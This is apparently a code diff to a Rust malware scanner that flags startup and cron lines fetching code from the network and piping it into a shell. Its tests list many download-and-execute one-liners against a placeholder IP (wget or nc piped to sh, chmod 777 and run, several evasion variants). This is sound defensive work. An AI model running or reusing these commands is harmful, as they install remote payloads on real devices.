@@ -9,6 +9,7 @@
 //! Gafgyt, Kinsing and dhpcd stay on devices whose `/tmp` forgets.
 //!
 //! # Misses and false alarms
+//! `suspicious` where the line is a text: in quotes that span lines, or in a here-document that is printed.
 //! Silent for what only saves or reads data: firmware updaters, ddns, acme, banip, adblock. Names are compared as
 //! text, so a name that is built differently in two lines is missed, and so is a program fetched by one file and
 //! run by another, or a fetcher that is called by a variable.
@@ -20,7 +21,7 @@
 use crate::check::{Area, Check, Ctx, Hook, Out, Severity};
 use crate::facts::fetch::{Fetch, fetch};
 use crate::facts::shell::{Commands, Role};
-use crate::facts::startup::Line;
+use crate::facts::startup::{Kind, Line};
 
 /// The row of the table.
 pub const CHECK: Check = Check {
@@ -34,7 +35,10 @@ pub const CHECK: Check = Check {
 };
 
 fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
-    let draft = if line.commands.iter().any(|(index, _)| takes_fetched_text(line.commands, index)) {
+    let fetched = line.commands.iter().any(|(index, _)| takes_fetched_text(line.commands, index));
+    let draft = if fetched && line.kind == Kind::Text {
+        out.line(line).severity(Severity::Suspicious).say("in quotes or a text that is printed: ")
+    } else if fetched {
         out.line(line).say("a shell runs what is fetched in: ")
     } else if let Some(run) = line.memory.runs() {
         out.line(line).say("runs what line ").number(run.fetched_at).say(" fetched: ")
@@ -48,15 +52,30 @@ fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
 fn takes_fetched_text(commands: &Commands, command: u16) -> bool {
     let fetches = |other: u16| fetch(commands, other) == Some(Fetch::Output);
     if commands.is_shell(command) {
-        // A shell that has a script of its own reads data from its pipe.
-        let own_script = commands.program(command).skip(1).any(|word| word.first() != Some(&b'-'));
-        let piped = !own_script && commands.feeders(command).any(fetches);
-        piped || commands.inside(command).any(|inner| fetches(inner) && feeds_no_other(commands, inner))
+        let piped = !has_own_script(commands, command) && commands.feeders(command).any(fetches);
+        let inside = |inner| {
+            let copied = commands.name(inner) == b"cat" && commands.feeders(inner).any(fetches);
+            (fetches(inner) || copied) && feeds_no_other(commands, inner)
+        };
+        piped || commands.inside(command).any(inside)
     } else {
         // `$(wget …)` in the place of the program.
         let empty = commands.words(command, Role::Argument).next().is_none_or(<[u8]>::is_empty);
         empty && commands.inside(command).any(fetches)
     }
+}
+
+/// Whether a shell is given a script by name or by `-c`; then what a pipe gives it is data.
+fn has_own_script(commands: &Commands, command: u16) -> bool {
+    let arguments = || commands.program(command).skip(1);
+    let flag = |word: &[u8], letter| word.first() == Some(&b'-') && !word.starts_with(b"--") && word.contains(&letter);
+    let names_input = |word: &[u8]| {
+        word.starts_with(b"/dev/stdin") || word.starts_with(b"/dev/fd/") || word.starts_with(b"/proc/self/fd/")
+    };
+    if arguments().any(|word| flag(word, b's')) {
+        return false;
+    }
+    arguments().any(|word| word.first() != Some(&b'-') && !names_input(word))
 }
 
 /// Whether a command inside a substitution gives its output to the substitution, not to a filter.
@@ -70,8 +89,6 @@ fn feeds_no_other(commands: &Commands, command: u16) -> bool {
 mod tests {
     use crate::check::testing::startup;
     use super::*;
-    use crate::facts::startup::Kind;
-
     #[test]
     fn fetched_and_run() {
         for text in [
@@ -85,6 +102,12 @@ mod tests {
             b"sh -c 'wget -O- http://192.0.2.1/x | sh'",
             b"cd /tmp; wget http://192.0.2.1/b; chmod 777 b; ./b",
             b"nc 192.0.2.1 4444 | sh",
+            b"wget -O- http://192.0.2.1/x | sh -s -- -a b",
+            b"wget -O- http://192.0.2.1/x | sh /dev/stdin",
+            b"wget -O- http://192.0.2.1/x | { read x; sh; }",
+            b"wget -O- http://192.0.2.1/x | eval \"$(cat)\"",
+            b"wget -O- http://192.0.2.1/x | sh -c sh",
+            b"sh -c 'wget -O- http://192.0.2.1/x' | sh",
         ] {
             assert_eq!(startup(&CHECK, Kind::Shell, text), [(1, Severity::Infected)], "{}", String::from_utf8_lossy(text));
         }
@@ -94,6 +117,19 @@ mod tests {
             startup(&CHECK, Kind::Cron, b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh"),
             [(1, Severity::Infected)]
         );
+    }
+
+    #[test]
+    fn texts_that_may_be_more() {
+        let quoted = b"x='\nwget -O- http://192.0.2.1/x | sh\n'\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, quoted), [(2, Severity::Suspicious)]);
+        let last = b"x='\nwget -O- http://192.0.2.1/x | sh # '\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, last), [(2, Severity::Suspicious)]);
+        // Quotes inside braces: for some shells they end there, for others three lines later.
+        let braces = b"x=\"${y#'\"'}\"\nwget -O- http://192.0.2.1/x | sh\n: \"'\"\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, braces), [(2, Severity::Infected)]);
+        let printed = b"{ cat <<E\nwget -O- http://192.0.2.1/x | sh\nE\n} | sh\n";
+        assert_eq!(startup(&CHECK, Kind::Shell, printed), [(2, Severity::Suspicious)]);
     }
 
     #[test]
